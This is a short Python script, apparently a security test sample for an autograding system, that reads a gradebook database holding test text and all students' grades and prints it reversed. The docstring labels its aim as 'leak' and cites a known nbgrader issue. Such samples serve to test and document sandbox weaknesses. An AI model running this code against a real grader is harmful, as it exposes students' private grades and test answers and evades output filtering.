"""Prints the gradebook, which holds the text of all tests and everybody's grades.

aim: leak
known: nbgrader https://github.com/jupyter/nbgrader/issues/483
"""

from pathlib import Path

print(Path("@ROOT@/gradebook.db").read_bytes().decode("latin-1")[::-1])
